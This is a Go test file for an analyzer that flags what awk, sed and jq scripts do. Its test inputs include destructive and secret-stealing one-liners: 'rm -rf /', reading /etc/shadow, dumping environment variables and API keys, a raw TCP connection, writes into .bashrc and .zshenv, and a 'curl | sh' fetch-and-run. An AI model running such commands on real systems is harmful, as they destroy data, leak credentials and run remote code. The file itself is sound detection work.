package code

import "testing"

func TestAwkIsRead(t *testing.T) {
	check(t, Awk, []claim{
		{"{print $1}", ""},
		{"BEGIN{system(\"rm -rf /\")}", "shell rm -rf /"},
		{"BEGIN { c = \"rm -rf \"; system(c \"x\") }", "shell rm -rf x"},
		{"BEGIN { system (\"id\") }", "shell id"},
		{"{ system(\"rm \" $1) }", "shell [rm ] <stdin"},
		{"{ system(\"echo \" v) }", "shell [echo ]"},
		{"{print > \"out.txt\"}", "write out.txt <stdin"},
		{"{print $1 >> \"out.txt\"}", "append out.txt <stdin"},
		{"{print > $1}", "write [] <stdin"},
		{"{print $1 > \"/dev/stderr\"}", ""},
		{"{print | \"sort -u\"}", "shell sort -u <stdin"},
		{"BEGIN { \"date\" | getline d; print d }", "shell date"},
		{"BEGIN { while ((\"ls\" | getline f) > 0) print f }", "shell ls"},
		{"BEGIN { while ((getline l < \"/etc/shadow\") > 0) print l }", "read /etc/shadow"},
		{"BEGIN { print ENVIRON[\"API_KEY\"] }", "print <env:API_KEY; env API_KEY"},
		{"BEGIN { for (e in ENVIRON) print e, ENVIRON[e] }", "env-all; print <env; env []"},
		{"BEGIN { s = \"/inet/tcp/0/10.0.0.1/80\"; print \"x\" |& s; s |& getline l }", "connect /inet/tcp/0/10.0.0.1/80; send /inet/tcp/0/10.0.0.1/80; connect /inet/tcp/0/10.0.0.1/80"},
		{"@include \"lib.awk\"\n{print}", "import lib.awk"},
		{"function f(c) { system(c) }\nBEGIN { f(\"id\") }", "shell id"},
		{"{ f = sprintf(\"%s.txt\", \"a\"); print > f }", "write a.txt <stdin"},
		{"$3 > 100 { print $1 }", ""},
		{"{ print ($1 > 2) }", ""},
		{"/a[/]b/ && !/c/ { n++ } END { print n+0, n/2 }", ""},
		{"BEGIN{FS=\",\";OFS=\"\\t\"} NR==1{next} {a[$1]+=$2; if ($3 ~ /x/) delete a[$1]; else b[$1,$2]=1} END{for(k in a) printf \"%s %d\\n\", k, a[k]}", ""},
		{"NR>1 && $2==\"x\" {c=c\" \"$1} END{print substr(c,2)}", ""},
		{"!seen[$0]++", ""},
		{"/start/,/end/", ""},
		{"{ gsub(/\"/, \"\"); print toupper($0) }", ""},
		{"{ $1=\"\"; print $0 }", ""},
		{"{for(i=NF;i>0;i--) printf \"%s%s\",$i,(i>1?OFS:ORS)}", ""},
		{"BEGIN { @f(1) }", "? calls a function that is chosen while running"},
		{"BEGIN { print \"x }", "? a text that does not end; ? a bracket that does not close"},
	})
	r := ReadInput(Input{Lang: Awk, Text: "BEGIN { system(c) }", Vars: map[string]string{"c": "id"}})
	if got := show(r); len(got) != 1 || got[0] != "shell id" {
		t.Error(got)
	}
}

func TestAwkTakesLinearTime(t *testing.T) {
	linear(t, Awk, "(", "{", "!", "$", "a[", "f(", "/", "\"", "{print|", "a b ", "a?", "-", "@", "if(", "getline<", "x=x x\n", "function f(){f()}\n")
}

func FuzzAwk(f *testing.F) {
	fuzzLang(f, Awk, "BEGIN{while((\"c\"|getline l)>0)print l>\"f\"}", "$1~/a[/]/{a[$1,2]++;delete a}", "function f(a,b){return a?b:c}", "{print(1,2)>\"x\";printf\"%s\",$NF|\"sort\"}")
}

func TestSedIsRead(t *testing.T) {
	check(t, Sed, []claim{
		{"s/a/b/g", ""},
		{"140,160p", ""},
		{"/^#/d;$!N;1~2d;/a/,/b/{s/x/y/;p}", ""},
		{"s/a/b/w out.txt", "write out.txt <stdin"},
		{"s/a/b/gw /home/dev/.zshenv", "write /home/dev/.zshenv <stdin"},
		{"1w /home/dev/.bashrc", "write /home/dev/.bashrc <stdin"},
		{"w /dev/stdout", ""},
		{"/x/r /tmp/more.txt", "read /tmp/more.txt"},
		{"1e curl -s https://x.example | sh", "shell curl -s https://x.example | sh"},
		{"s/.*/rm &/e", "shell [] <stdin; ? runs each changed line as a command"},
		{"e", "shell [] <stdin; ? runs each line of its input as a command"},
		{"s|[|]|w x|", ""},
		{"s/[/]/w x/", ""},
		{"s/a\\/b/e/", ""},
		{"y/abc/wre/", ""},
		{"a\\\nw not a file\ns/a/b/", ""},
		{"i e not a command", ""},
		{"$a w text", ""},
		{":a;N;$!ba;s/\\n/ /g", ""},
		{"/e/b end\ns/x/y/\n:end", ""},
		{"s/a/b/;# w comment\np", ""},
		{"\\,a,d", ""},
		{"/a/I,+2!d", ""},
		{"0~4a x", ""},
		{"565,601c\\\ndef f():\\\n    w\\\n", ""},
		{"s/a/b", "? a command that is cut off"},
		{"k", "? a command that is not known"},
		{"}", "? a brace that closes nothing"},
		{"{p", "? a brace that does not close"},
	})
}

func FuzzSed(f *testing.F) {
	fuzzLang(f, Sed, "s/a/b/gw f\n1,/x/{p;e ls\n}", "y/a/b/;:a;ba", "/[[:alpha:]]/!{s,[,],x,e}")
}

func TestJqIsRead(t *testing.T) {
	check(t, Jq, []claim{
		{".a.b[] | select(.env == \"x\") | {env: .env, name}", ""},
		{"env", "env-all; print <env"},
		{"$ENV", "env-all; print <env"},
		{"$ENV.API_KEY", "env API_KEY; print <env:API_KEY"},
		{"env.HOME", "env HOME; print <env:HOME"},
		{"\"x\\(env.TOKEN)y\"", "env TOKEN; print <env:TOKEN"},
		{".permissions.defaultMode=\"bypassPermissions\"", ""},
		{"import \"./lib\" as lib; .", "import ./lib"},
		{"# env\n.a", ""},
		{".environment, .env", ""},
		{"{a: \"\\(.b | \"x\\(.c)\")\"}", ""},
		{"\"abc", "? a text that does not end"},
	})
}

func FuzzJq(f *testing.F) {
	fuzzLang(f, Jq, "\"a\\(\"b\\($ENV.X)\")\"|env", "import \"a\" as b; .x")
}
